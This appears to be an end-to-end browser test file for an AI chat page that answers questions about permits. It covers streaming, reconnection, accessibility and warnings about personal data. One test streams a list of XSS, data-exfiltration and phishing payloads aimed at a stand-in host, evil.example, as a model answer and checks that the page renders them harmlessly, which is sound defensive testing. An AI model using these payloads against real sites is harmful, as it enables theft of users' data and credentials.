import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import type { Page } from 'playwright-core'
import { freePort } from '../free-port.ts'
import type { HeldQuestion } from '../held-agent.ts'
import { startServer, temporaryFolder } from '../server-process.ts'
import { accessibilityFaults, ask, blockLinks, createSite, sidewaysScroll, type Site, until } from './browser.ts'

let site: Site
beforeAll(async () => {
  site = await createSite({ SERVICE_NAME: 'Ask about permits' })
})
afterAll(() => site[Symbol.asyncDispose]())

/** What stands in the conversation, as people read it. */
const said = async (page: Page): Promise<string> => (await page.locator('#messages').innerText()).replace(/\s+/g, ' ')
const focused = (page: Page): Promise<string> => page.evaluate(() => document.activeElement?.id ?? '')

/** Answers the next question whole. */
async function answerNext(text: string): Promise<HeldQuestion> {
  const question = await site.agent.asked()
  question.say(text)
  question.finish()
  return question
}

describe('an answer', () => {
  test('[W26][W27] appears while it is written, in blocks that are never written again', async () => {
    const visitor = await site.visitor()
    const page = await visitor.begin()
    await ask(page, 'How do I apply?')
    const question = await site.agent.asked()
    await until(page, 'Finding an answer')
    expect(await page.getByLabel('Your question').inputValue()).toBe('')
    question.say('In **two ways**.\n\nOnl')
    await until(page, 'Onl')
    await page.locator('#messages strong').waitFor()
    expect(await said(page)).toContain('In two ways. Onl The assistant is answering.')
    await page.evaluate(() => document.querySelector('#messages strong')?.setAttribute('data-first', ''))
    expect(await accessibilityFaults(page)).toEqual([])
    question.say('ine, or by post.\n\n- one\n- two\n')
    await until(page, 'ine, or by post.')
    question.finish()
    await until(page, 'This answer was written by AI and may be wrong.')
    await page.locator('#messages li li').first().waitFor()
    expect(await page.locator('strong[data-first]').count()).toBe(1)
    expect(await said(page)).toContain('In two ways. Online, or by post. one two This answer')
    // Announcements keep half a second apart, so this one may follow the page.
    await page.locator('#announce', { hasText: 'Answer ready. 9 words.' }).waitFor({ state: 'attached' })
    expect(await accessibilityFaults(page)).toEqual([])
    expect(visitor.faults).toEqual([])
    await visitor.context.close()
  })

  test('[W26] a reload in mid-answer, and a second tab, show the same and go on', async () => {
    const visitor = await site.visitor()
    const page = await visitor.begin()
    await ask(page, 'Reload?')
    const question = await site.agent.asked()
    question.say('First part.\n\nSecond ')
    await until(page, 'Second')
    await page.reload()
    const other = await visitor.tab(page.url())
    await until(page, 'Second')
    await until(other, 'Second')
    question.say('part.\n\nThird.')
    question.finish()
    for (const one of [page, other]) await until(one, 'Third.')
    for (const one of [page, other]) await until(one, 'This answer was written by AI')
    const [here, there] = [await said(page), await said(other)]
    expect(here).toBe(there)
    expect(here.match(/First part\.|Second part\.|Third\./g)).toEqual(['First part.', 'Second part.', 'Third.'])
    await page.reload()
    await until(page, 'Third.')
    expect(await said(page)).toBe(there)
    await ask(other, 'From the other tab?')
    await until(page, 'From the other tab?')
    await answerNext('Seen.')
    expect(visitor.faults).toEqual([])
    await visitor.context.close()
  })

  test('[W26] two questions sent at once are both kept, in order, with their place', async () => {
    const visitor = await site.visitor()
    const page = await visitor.begin()
    await ask(page, 'The first?')
    const first = await site.agent.asked()
    await page.getByLabel('Your question').fill('The second?')
    await page.keyboard.press('Enter')
    await until(page, 'There is 1 question before yours.')
    first.say('Answer one.')
    first.finish()
    const second = await site.agent.asked()
    second.say('Answer two.')
    second.finish()
    await until(page, 'Answer two.')
    expect((await said(page)).match(/The first\?|Answer one\.|The second\?|Answer two\./g)).toEqual([
      'The first?',
      'Answer one.',
      'The second?',
      'Answer two.',
    ])
    await visitor.context.close()
  })

  test('[W28] a hostile answer reaches nobody and does nothing, however it is cut up and wherever it is read', async () => {
    const visitor = await site.visitor()
    const page = await visitor.begin()
    await ask(page, 'Attack?')
    const question = await site.agent.asked()
    // A letter at a time, so that every construct is cut at every place.
    for (const letter of HOSTILE) question.say(letter)
    question.finish()
    await until(page, 'Last.')
    await until(page, 'This answer was written by AI')
    const address = page.url()
    await page.reload()
    await until(page, 'Last.')
    expect(await page.title()).toBe('Ask the assistant – Ask about permits')
    await expectHarmless(page)
    const plain = await visitor.tab(address)
    await plain.route('**/*.js', (route) => route.abort())
    await plain.reload()
    await until(plain, 'Last.')
    await expectHarmless(plain)
    const saved = await visitor.context.newPage()
    const { body } = await downloaded(page)
    // As from a disk: with the policy that the file itself brings, and no other.
    await saved.route('**/saved', (route) => route.fulfill({ contentType: 'text/html', body }))
    await saved.goto('/saved')
    await expectHarmless(saved)
    // Written and read again it is the same, so no parser makes anything else of it.
    const isStable = await saved.evaluate(() => {
      const copy = document.createElement('div')
      copy.innerHTML = document.body.innerHTML
      return copy.innerHTML === document.body.innerHTML
    })
    expect([isStable, visitor.faults]).toEqual([true, []])
    await visitor.context.close()
  })
})

const HOSTILE = [
  '![x](https://evil.example/?d=SECRET) ![y][z]\n\n[z]: https://evil.example/z.png\n',
  '<img src="https://evil.example/a" onerror="document.title=1"><svg onload=alert(1)><video poster="https://evil.example/p">',
  '<script>document.title="taken"</script><form action="https://evil.example"><button>Sign in</button></form>',
  '<style>*{display:none;background:url(https://evil.example/s)}</style><base href="https://evil.example/"><link rel=prefetch href="https://evil.example/l">',
  '<meta http-equiv=refresh content="0;url=https://evil.example"><p id=message name=composer>clobbered',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '[a](javascript:alert(1)) [b](https://evil.example) <https://evil.example> [c](data:text/html,x)',
  'Session expired. [https://www.gov.uk](https://evil.example/login)',
  '```html\n<img src=x onerror=alert(1)>\n```',
  '| <svg/onload=alert(1)> | b |\n|---|---|\n| <iframe src=https://evil.example> | d |',
  'Last.',
].join('\n\n')

/** Nothing of it is an element of its kind, and its links say where they lead. */
async function expectHarmless(page: Page): Promise<void> {
  const elements = 'img, svg, video, style, base, meta, iframe, math, form[action*=evil], script, #message[name=composer]'
  const answer = page.locator('.app-message--answer, article.answer').first()
  expect(await answer.locator(elements).count()).toBe(0)
  const links = await answer
    .locator('a:visible')
    .evaluateAll((all) => all.map((link) => [link.textContent, link.getAttribute('href') ?? '']))
  expect(links.map(([text]) => text)).toEqual([
    expect.stringMatching(/^b \((?:https:\/\/)?evil\.example\/?\)$/),
    expect.stringMatching(/^https:\/\/www\.gov\.uk \((?:https:\/\/)?evil\.example(?:\/login)?\)$/),
  ])
}

async function downloaded(page: Page): Promise<{ readonly body: string }> {
  const response = await page.request.get(`${new URL(page.url()).pathname}/download/html`)
  return { body: await response.text() }
}

describe('people', () => {
  test('[W44] are asked before a question with personal information leaves the box, and go on as they decide', async () => {
    const visitor = await site.visitor()
    const page = await visitor.begin()
    const box = page.getByLabel('Your question')
    await ask(page, 'My number is AB123456C')
    await page.locator('#send-notice', { hasText: 'may include a National Insurance number' }).waitFor()
    expect(await box.inputValue()).toBe('My number is AB123456C')
    expect(await accessibilityFaults(page)).toEqual([])
    await page.getByRole('button', { name: 'Change my question' }).click()
    expect([await focused(page), await page.locator('#send-notice').innerText()]).toEqual(['message', ''])
    await page.getByRole('button', { name: 'Send', exact: true }).click()
    await page.getByRole('button', { name: 'Send it anyway' }).click()
    expect((await answerNext('Noted.')).content).toBe('My number is AB123456C')
    await until(page, 'Noted.')
    expect([await box.inputValue(), await page.locator('#send-notice').innerText(), visitor.faults]).toEqual(['', '', []])
    await visitor.context.close()
  })

  test('[W25] ask, stop and read on with the keyboard alone', async () => {
    const visitor = await site.visitor()
    const page = await visitor.begin()
    await page.keyboard.press('Tab')
    await page.keyboard.press('Tab')
    await page.keyboard.press('Enter')
    expect(await focused(page)).toBe('message')
    await page.keyboard.type('One line')
    await page.keyboard.press('Shift+Enter')
    await page.keyboard.type('and another?')
    await page.keyboard.press('Enter')
    const question = await site.agent.asked()
    expect(question.content).toBe('One line\nand another?')
    expect(await focused(page)).toBe('message')
    question.say('Half of it')
    await until(page, 'Half of it')
    await page.keyboard.press('Tab')
    await page.keyboard.press('Tab')
    expect(await focused(page)).toBe('stop')
    await page.keyboard.press('Enter')
    await question.ended
    await until(page, 'You stopped this answer. It may not be complete.')
    await page.getByRole('button', { name: 'Stop' }).waitFor({ state: 'hidden' })
    expect(await page.evaluate(() => document.activeElement?.textContent)).toContain('Assistant')
    await page.keyboard.press('Tab')
    await page.keyboard.press('Enter')
    expect((await answerNext('Once more.')).content).toBe('One line\nand another?')
    await until(page, 'Once more.')
    expect(visitor.faults).toEqual([])
    await visitor.context.close()
  })

  test('[W25] finish a character with Enter, and on a touch screen begin a new line with it', async () => {
    const typing = await site.visitor()
    const page = await typing.begin()
    const box = page.getByLabel('Your question')
    await box.fill('にほん')
    await box.dispatchEvent('keydown', { key: 'Enter', isComposing: true, bubbles: true, cancelable: true })
    expect(await box.inputValue()).toBe('にほん')
    await box.press('Enter')
    expect((await answerNext('はい')).content).toBe('にほん')
    await typing.context.close()
    const touching = await site.visitor({ hasTouch: true, isMobile: true, viewport: { width: 390, height: 700 } })
    const phone = await touching.begin()
    await phone.getByLabel('Your question').fill('One')
    await phone.getByLabel('Your question').press('Enter')
    await phone.keyboard.type('two')
    expect(await phone.getByLabel('Your question').inputValue()).toBe('One\ntwo')
    await phone.getByRole('button', { name: 'Send' }).tap()
    expect((await answerNext('Both.')).content).toBe('One\ntwo')
    await until(phone, 'Both.')
    expect(await phone.getByText('One two').isVisible()).toBe(true)
    await touching.context.close()
  })

  test('[W25] on a small screen see what they sent, and its answer', async () => {
    const visitor = await site.visitor({ viewport: { width: 320, height: 256 } })
    const page = await visitor.begin()
    await ask(page, 'Do I see this?')
    await answerNext('And this?')
    const message = page.locator('.app-message--answer')
    await message.getByText('And this?').waitFor()
    expect(await message.evaluate((element) => element.getBoundingClientRect().top < innerHeight)).toBe(true)
    await visitor.context.close()
  })

  test('[W8][W25] are told what is wrong with a question, and taken to it', async () => {
    const visitor = await site.visitor()
    const page = await visitor.begin()
    await page.getByRole('button', { name: 'Send' }).click()
    await page.getByRole('heading', { name: 'There is a problem' }).waitFor()
    expect(await page.title()).toMatch(/^Error: /)
    expect(await page.evaluate(() => document.activeElement?.className)).toContain('govuk-error-summary')
    expect(await accessibilityFaults(page)).toEqual([])
    await page.getByRole('link', { name: 'Enter your question' }).click()
    expect(await focused(page)).toBe('message')
    await page.keyboard.type('x'.repeat(3))
    await page.keyboard.press('Enter')
    await answerNext('Better.')
    await until(page, 'Better.')
    expect(await page.title()).toBe('Ask the assistant – Ask about permits')
    expect(await page.locator('.govuk-error-message:visible').count()).toBe(0)
    await visitor.context.close()
  })

  test('[W24] have no sideways scrolling at 320 px, nor at 400% zoom, and can enlarge the text', async () => {
    const visitor = await site.visitor({ viewport: { width: 320, height: 256 }, deviceScaleFactor: 4 })
    const page = await visitor.begin()
    await ask(page, `Wide ${'w'.repeat(400)}?`)
    const question = await site.agent.asked()
    question.say(
      `| a | b | c |\n|---|---|---|\n| ${'long'.repeat(30)} | two | three |\n\n\`\`\`\n${'code'.repeat(60)}\n\`\`\`\n\n${'word'.repeat(100)}\n\nEnd.`,
    )
    question.finish()
    await until(page, 'End.')
    expect(await sidewaysScroll(page)).toBe(0)
    expect(await accessibilityFaults(page)).toEqual([])
    await visitor.context.close()
  })

  test('[W25] who read further up are not moved, and are told of what is new', async () => {
    const visitor = await site.visitor({ viewport: { width: 800, height: 500 } })
    const page = await visitor.begin()
    await ask(page, 'Long?')
    const first = await site.agent.asked()
    first.say(Array.from({ length: 60 }, (_unused, index) => `Paragraph ${index}.`).join('\n\n'))
    first.finish()
    await until(page, 'Paragraph 59.')
    await until(page, 'This answer was written by AI')
    await ask(page, 'More?')
    const second = await site.agent.asked()
    await page.evaluate(() => scrollTo({ top: 300, behavior: 'instant' }))
    second.say('Fresh words.\n\nAnd more.')
    second.finish()
    await page.getByRole('link', { name: 'New answer below' }).waitFor()
    expect(await page.evaluate(() => scrollY)).toBe(300)
    await page.getByRole('link', { name: 'New answer below' }).click()
    expect(await page.evaluate(() => document.activeElement?.closest('li')?.textContent)).toContain('Fresh words.')
    await visitor.context.close()
  })
})

describe('when something is missing', () => {
  test('[W27] without the script the page stays as the server wrote it, and works', async () => {
    const visitor = await site.visitor()
    await visitor.context.route('**/chat-*.js', (route) => route.abort())
    const page = await visitor.begin()
    const sent = ask(page, 'No script?')
    const question = await site.agent.asked()
    question.say('Answered.')
    question.finish()
    await sent
    await until(page, 'Answered.')
    expect(page.url()).toContain('?wait=')
    await visitor.context.close()
  })

  test('[W27] where no live link ever opens, the form sends the question, once', async () => {
    const visitor = await site.visitor()
    await blockLinks(visitor.context)
    const page = await visitor.begin()
    const before = site.agent.count
    await ask(page, 'No link?')
    const question = await site.agent.asked()
    question.say('Answered.')
    question.finish()
    await page.waitForURL(/\?wait=/)
    await until(page, 'Answered.')
    expect(site.agent.count).toBe(before + 1)
    await visitor.context.close()
  })

  test('[W27] where no live link ever opens, questions sent in a hurry are all asked, in order', async () => {
    const visitor = await site.visitor()
    await blockLinks(visitor.context)
    const page = await visitor.begin()
    await ask(page, 'First in a hurry?')
    await ask(page, 'Second in a hurry?')
    for (const text of ['First in a hurry?', 'Second in a hurry?']) {
      const question = await site.agent.asked()
      expect(question.content).toBe(text)
      question.say(`Answer to ${text}`)
      question.finish()
    }
    await page.waitForURL(/\?wait=/)
    await until(page, 'Answer to Second in a hurry?')
    expect((await said(page)).match(/(?<!to )(First|Second) in a hurry\?/g)).toEqual(['First in a hurry?', 'Second in a hurry?'])
    await visitor.context.close()
  })

  test('[W27] where no live link ever opens, a question is not held back by the next one being typed and cleared', async () => {
    const visitor = await site.visitor()
    await blockLinks(visitor.context)
    const page = await visitor.begin()
    await ask(page, 'Cleared?')
    await page.getByLabel('Your question').fill('')
    const question = await site.agent.asked()
    expect(question.content).toBe('Cleared?')
    question.say('Asked all the same.')
    question.finish()
    await until(page, 'Asked all the same.')
    await visitor.context.close()
  })

  test('[W20][W26] a server that dies and comes back loses nothing, and the page says both', async () => {
    using folder = temporaryFolder()
    const options = { dataDir: folder.path, agentUrl: site.agent.url, env: { PORT: String(await freePort()) } }
    const first = await startServer(options)
    const visitor = await site.visitor({ baseURL: first.url })
    const page = await visitor.begin()
    await ask(page, 'Before?')
    const question = await site.agent.asked()
    question.say('Shown before.\n\nCut he')
    await until(page, 'Cut he')
    await first.kill('SIGKILL')
    await until(page, 'The connection was lost. We are trying to reconnect.')
    expect(await accessibilityFaults(page)).toEqual([])
    await page.getByLabel('Your question').fill('While away?')
    await page.keyboard.press('Enter')
    await until(page, 'Not sent yet. Waiting for a connection.')
    await using second = await startServer(options)
    expect(second.url).toBe(first.url)
    const again = await site.agent.asked()
    again.say('Whole.')
    again.finish()
    await until(page, 'You are connected again. Your conversation is up to date.')
    const away = await site.agent.asked()
    expect(away.content).toBe('While away?')
    away.say('Kept.')
    away.finish()
    await until(page, 'Kept.')
    const shown = await said(page)
    expect(shown.match(/Before\?|Shown before\.|Cut he|asked the assistant again|Whole\.|Kept\./g)).toEqual([
      'Before?',
      'Shown before.',
      'Cut he',
      'asked the assistant again',
      'Whole.',
      'Kept.',
    ])
    // Where it stands beside the first answer depends on which of page and server is back first.
    expect(shown.match(/Cut he|While away\?|Kept\./g)).toEqual(['Cut he', 'While away?', 'Kept.'])
    await visitor.context.close()
  })
})
